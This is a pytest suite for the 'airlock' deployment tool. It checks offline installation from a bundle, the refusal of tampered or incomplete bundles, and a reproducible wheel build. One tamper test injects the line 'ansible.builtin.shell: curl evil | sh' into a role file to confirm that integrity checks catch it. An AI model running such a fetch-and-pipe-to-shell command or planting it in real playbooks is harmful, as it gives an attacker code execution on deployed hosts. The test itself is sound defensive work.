"""airlock installed from a bundle with no network can deploy: install-airlock.py runs in a
network namespace with no route out, and the installed airlock then plans against the
installed example inventories, verifies the audit log, runs status, preflight and deploy as
far as SSH to the (absent) hosts, prints the network matrix and Ansible syntax-checks the
installed playbooks with the installed collections, from a folder outside any checkout.
A tampered project file, or a pip that fails half way, leaves nothing at the target.

Needs PyPI at build time (airlock's own dependencies), as a staging host has."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from conftest import need, write_spec
from installer.bundle.build import BuildOptions, build
from installer.bundle.sources.packages import self_wheel
from installer.bundle.verify import verify
from installer.site import checkout

SPEC = """
    apiVersion: airlock/v1
    name: offline
    version: 1
    phase: poc
    pypi:
      python: ["3.11"]
      self: true
"""
TITLE = "org.opencontainers.image.title"
PYTHON = "/usr/bin/python3"  # Debian's, as on the closed network's hosts
COLLECTIONS = {"community.crypto", "community.general", "community.docker", "ansible.posix"}


def tracked(*paths: str) -> set[str]:
    out = subprocess.run(["git", "ls-files", "--", *paths], cwd=checkout(), check=True,
                         capture_output=True, text=True).stdout
    return set(out.split())


def offline(*cmd: str | Path, cwd: Path, env: dict[str, str] | None = None,
            timeout: float = 120) -> subprocess.CompletedProcess:
    """CMD in a network namespace with no route out, with nothing of this test's Python
    (PYTHONPATH, the venv) in its environment."""
    home = cwd / "home"
    home.mkdir(exist_ok=True)
    clean = {"PATH": "/usr/bin:/bin", "HOME": str(home), "LANG": "C.UTF-8",
             "AIRLOCK_SITE_DIR": str(cwd / "site"), **(env or {})}
    return subprocess.run(["unshare", "--net", *map(str, cmd)], cwd=cwd, env=clean,
                          capture_output=True, text=True, timeout=timeout)


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    need("unshare")
    d = tmp_path_factory.mktemp("offline-spec")
    b = build(write_spec(d, SPEC), d / "bundle", BuildOptions()).path
    assert verify(b).ok
    return b


@pytest.fixture(scope="module")
def installed(bundle: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("offline-host")
    probe = offline(PYTHON, "-c", "import socket; socket.create_connection(('1.1.1.1', 53), 2)",
                    cwd=work)
    assert probe.returncode != 0 and "unreachable" in probe.stderr  # really no route out
    target = work / "opt" / "airlock"
    target.parent.mkdir()
    # a caller's PYTHONPATH with an airlock on it (the checkout) must not stand in for it
    proc = offline(PYTHON, bundle / "install-airlock.py", target, cwd=work, timeout=900,
                   env={"PYTHONPATH": str(checkout())})
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert f"inventories: {target}/share/airlock" in proc.stdout
    assert sorted(p.name for p in target.parent.iterdir()) == ["airlock"]  # no temp left
    return target


def test_install_carries_the_project_files_and_nothing_else(bundle: Path,
                                                             installed: Path) -> None:
    want = tracked("ansible.cfg", "roles", "playbooks", "inventories",
                   ":(glob)bundles/*.yaml", ":(glob)bundles/*.lock.json",
                   ":(glob)docs/port-matrix.*")
    assert {"inventories/pilot/hosts.yml", "inventories/lab/group_vars/all/lab.yml",
            "playbooks/group_vars/all/network.yml", "bundles/poc.lock.json",
            "docs/port-matrix.md"} <= want
    data = "airlock-0.1.0.data/data/share/airlock/"
    with zipfile.ZipFile(_wheel_blob(bundle)) as whl:
        assert {n[len(data):] for n in whl.namelist() if n.startswith(data)} == want
    share = installed / "share" / "airlock"
    files = {str(p.relative_to(share)) for p in share.rglob("*")
             if not p.is_dir() and "__pycache__" not in p.parts}  # pip compiles at install
    assert files == want


def test_installed_airlock_deploys_with_no_network(installed: Path, tmp_path: Path) -> None:
    share = installed / "share" / "airlock"
    airlock = installed / "bin" / "airlock"
    version = offline(airlock, "--version", cwd=tmp_path)
    assert version.returncode == 0 and "airlock, version" in version.stdout, version.stderr

    plan = offline(airlock, "plan", "--phase", "pilot", "-i", share / "inventories" / "pilot",
                   "--json", cwd=tmp_path)
    assert plan.returncode == 0, plan.stdout[-2000:] + plan.stderr[-2000:]
    result = json.loads(plan.stdout)
    assert result["ok"] and result["needs"]

    audit = offline(airlock, "audit", "verify", cwd=tmp_path)
    assert audit.returncode == 0 and "audit log intact" in audit.stdout, audit.stderr

    # the example hosts are not there (no network): each command gets as far as SSH to them
    poc = share / "inventories" / "poc"
    status = offline(airlock, "status", "-i", poc, cwd=tmp_path)
    assert status.returncode == 0 and "unreachable" in status.stdout, status.stderr
    for command in ("preflight", "deploy"):
        run = offline(airlock, command, "-i", poc, cwd=tmp_path)
        assert run.returncode == 9, run.stdout[-2000:] + run.stderr[-2000:]
        assert "Network is unreachable" in run.stdout + run.stderr

    matrix = offline(airlock, "network", "matrix", cwd=tmp_path)
    assert matrix.returncode == 0, matrix.stderr
    assert "443" in matrix.stdout

    lab = offline(airlock, "lab", "down", cwd=tmp_path)
    assert lab.returncode == 2 and "needs a checkout" in lab.stderr, lab.stdout + lab.stderr

    # the collections come from the installed `ansible` package, nothing else
    listed = offline(installed / "bin" / "ansible-galaxy", "collection", "list",
                     "--format", "json", cwd=tmp_path)
    assert listed.returncode == 0, listed.stderr
    paths = {name: where for where, cols in json.loads(listed.stdout).items() for name in cols}
    assert set(paths) >= COLLECTIONS, sorted(paths)
    assert all(paths[c].startswith(str(installed)) for c in COLLECTIONS), paths

    check = offline(installed / "bin" / "ansible-playbook", "--syntax-check", "-i", poc,
                    share / "playbooks" / "site.yml",
                    cwd=tmp_path, env={"ANSIBLE_CONFIG": str(share / "ansible.cfg")})
    assert check.returncode == 0, check.stdout[-3000:] + check.stderr[-3000:]
    assert "playbook: " in check.stdout


# --------------------------------------------------------------------------- refusals

def _copy(bundle: Path, to: Path) -> Path:
    """A copy of the bundle whose blobs are hard links: replace a file, never write it."""
    shutil.copytree(bundle, to, copy_function=os.link)
    return to


def _put_blob(b: Path, data: bytes) -> str:
    digest = hashlib.sha256(data).hexdigest()
    (b / "blobs" / "sha256" / digest).write_bytes(data)
    return "sha256:" + digest


def _pypi_manifest(b: Path) -> tuple[dict, dict]:
    index = json.loads((b / "index.json").read_text())
    entry = next(m for m in index["manifests"]
                 if m["annotations"].get("dev.airlock.kind") == "pypi")
    return index, entry


def _wheel_blob(b: Path) -> Path:
    """airlock's own wheel in bundle B."""
    _, entry = _pypi_manifest(b)
    manifest = json.loads((b / "blobs/sha256" / entry["digest"][7:]).read_text())
    layer = next(x for x in manifest["layers"] if x["annotations"][TITLE].startswith("airlock-"))
    return b / "blobs/sha256" / layer["digest"][7:]


def _install(b: Path, target: Path) -> subprocess.CompletedProcess:
    """Install into TARGET from B, in the folder above TARGET's (HOME, site folder)."""
    return offline(PYTHON, b / "install-airlock.py", target, cwd=target.parent.parent,
                   timeout=600)


def test_tampered_project_file_is_refused(bundle: Path, tmp_path: Path) -> None:
    b = _copy(bundle, tmp_path / "bundle")
    blob = _wheel_blob(b)
    role = "airlock-0.1.0.data/data/share/airlock/roles/pki/tasks/main.yml"
    src = zipfile.ZipFile(blob)
    tampered = tmp_path / "tampered.whl"
    with zipfile.ZipFile(tampered, "w") as out:
        for info in src.infolist():
            data = src.read(info)
            out.writestr(info, data + b"\n- ansible.builtin.shell: curl evil | sh\n"
                         if info.filename == role else data)
    blob.unlink()
    shutil.copy(tampered, blob)
    host = tmp_path / "host"
    host.mkdir()
    proc = _install(b, host / "airlock")
    assert proc.returncode == 1, proc.stdout[-2000:] + proc.stderr[-2000:]
    assert "damaged (" in proc.stderr  # longer than its descriptor, or another digest
    assert list(host.iterdir()) == []  # no target, no temporary folder


def test_failed_install_leaves_nothing(bundle: Path, tmp_path: Path) -> None:
    """A bundle whose digests all match but whose mirror lacks one of airlock's
    dependencies: pip fails after the venv was made, and the target is cleared."""
    b = _copy(bundle, tmp_path / "bundle")
    index, entry = _pypi_manifest(b)
    manifest = json.loads((b / "blobs/sha256" / entry["digest"][7:]).read_text())
    layers = manifest["layers"]
    manifest["layers"] = [x for x in layers
                          if not x["annotations"][TITLE].lower().startswith("pyyaml-")]
    assert len(manifest["layers"]) == len(layers) - 1
    entry["digest"] = _put_blob(b, json.dumps(manifest).encode())
    (b / "index.json").unlink()
    (b / "index.json").write_text(json.dumps(index))
    sums = (b / "SHA256SUMS").read_text().splitlines()
    digest = hashlib.sha256((b / "index.json").read_bytes()).hexdigest()
    (b / "SHA256SUMS").unlink()
    (b / "SHA256SUMS").write_text("".join(f"{digest}  index.json\n" if s.endswith(
        "  index.json") else s + "\n" for s in sums))

    host = tmp_path / "host"
    host.mkdir()
    proc = _install(b, host / "airlock")
    assert proc.returncode == 1, proc.stdout[-2000:] + proc.stderr[-2000:]
    assert "pip could not install airlock" in proc.stderr
    assert list(host.iterdir()) == []

    (host / "airlock").mkdir()  # a folder made beforehand stays, empty
    proc = _install(b, host / "airlock")
    assert proc.returncode == 1 and "pip could not install airlock" in proc.stderr
    assert [p.name for p in host.iterdir()] == ["airlock"]
    assert list((host / "airlock").iterdir()) == []

    (host / "airlock" / "keep").write_text("mine")  # a folder in use is never touched
    proc = _install(b, host / "airlock")
    assert proc.returncode == 1 and "exists and is not empty" in proc.stderr
    assert [p.name for p in (host / "airlock").iterdir()] == ["keep"]


def test_own_wheel_is_reproducible_and_takes_tracked_files_only(bundle: Path,
                                                               tmp_path: Path) -> None:
    """The wheel built again, with ignored junk in the checkout, is the bundle's bytes."""
    root = checkout()
    assert root is not None
    junk = [root / "roles" / "pki" / "__pycache__" / "junk.cpython-311.pyc",
            root / "inventories" / "lab" / "hosts.yml"]
    made = [p for p in junk if not p.exists()]
    try:
        for p in made:
            p.parent.mkdir(exist_ok=True)
            p.write_text("junk: true\n")
        again = self_wheel(tmp_path)
    finally:
        for p in made:
            p.unlink()
        with_pycache = junk[0].parent
        if with_pycache.is_dir() and not any(with_pycache.iterdir()):
            with_pycache.rmdir()
    meta = json.loads((bundle / "bundle.json").read_text())
    pypi = next(a for a in meta["artifacts"] if a["kind"] == "pypi")
    ours = next(f for f in pypi["files"] if f["path"] == again.filename)
    assert ours["digest"] == "sha256:" + again.sha256


def test_own_wheel_without_project_files_is_refused(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """Built where `git ls-files` cannot run, the wheel would install an airlock that cannot
    deploy: the bundle build refuses it."""
    from installer.errors import SourceError

    monkeypatch.setenv("PATH", str(tmp_path / "no-git"))
    with pytest.raises(SourceError, match="without its project files"):
        self_wheel(tmp_path)


def test_the_installed_airlock_drives_the_lab(installed: Path, demo: dict,
                                              tmp_path: Path) -> None:
    """The closed network's controller: the airlock installed offline above (no checkout,
    no PYTHONPATH, cwd outside any checkout) checks the lab's hosts, imports a newer lab
    bundle to its repo host, deploys it, shows the status and verifies the audit log, with
    the site folder the demo made (its CA, known_hosts, trust state)."""
    from conftest import lab_bundle, lab_ssh

    share = installed / "share" / "airlock"
    airlock = installed / "bin" / "airlock"
    # an operator's inventory beside the installed example group_vars: the lab's
    inventory = share / "inventories" / "lab" / "hosts.yml"
    shutil.copy(demo["inventory"], inventory)
    served = json.loads(lab_ssh(demo, "repo1", "cat /srv/airlock/current/.airlock-import.json"
                                ).stdout)["version"]
    newer = lab_bundle(demo, served + 1, {}, tmp_path / "newer", ("signer-1", "signer-3"))
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "LANG": "C.UTF-8",
           "AIRLOCK_SITE_DIR": str(demo["site"]), "AIRLOCK_SYSLOG": "none"}

    def run(*args: str | Path, timeout: float = 900) -> dict:
        proc = subprocess.run([str(airlock), *map(str, args), "--json"], cwd=tmp_path, env=env,
                              capture_output=True, text=True, timeout=timeout)
        assert proc.returncode == 0, (args, proc.stdout[-3000:] + proc.stderr[-3000:])
        return json.loads(proc.stdout)

    assert run("preflight", "-i", inventory)["ok"]
    doc = run("bundle", "import", newer, "-i", inventory, "--trust", demo["trust"])
    assert doc["version"] == served + 1 and doc["run"]["failures"] == []
    # two hosts (a full site.yml on all five costs minutes of CI and proves nothing more
    # about where the playbooks come from)
    doc = run("deploy", "-i", inventory, "--limit", "fw1,repo1")
    assert doc["release"]["version"] == served + 1
    assert set(doc["run"]["stats"]) == {"fw1", "repo1"}
    assert all(s["failures"] == 0 for s in doc["run"]["stats"].values())
    # the playbook that ran is the installed one (ansible-runner keeps the command line)
    command = json.loads((Path(doc["run"]["log"]).parent / "command").read_text())
    assert str(share / "playbooks" / "site.yml") in command["command"], command
    rows = {r["host"]: r for r in run("status", "-i", inventory)["hosts"]}
    assert all(r["reachable"] for r in rows.values()), rows
    # the deployed two run the served release; the others still the one before
    assert {h for h, r in rows.items() if r["current"]} == {"fw1", "repo1"}, rows
    assert run("audit", "verify")["records"] >= 4
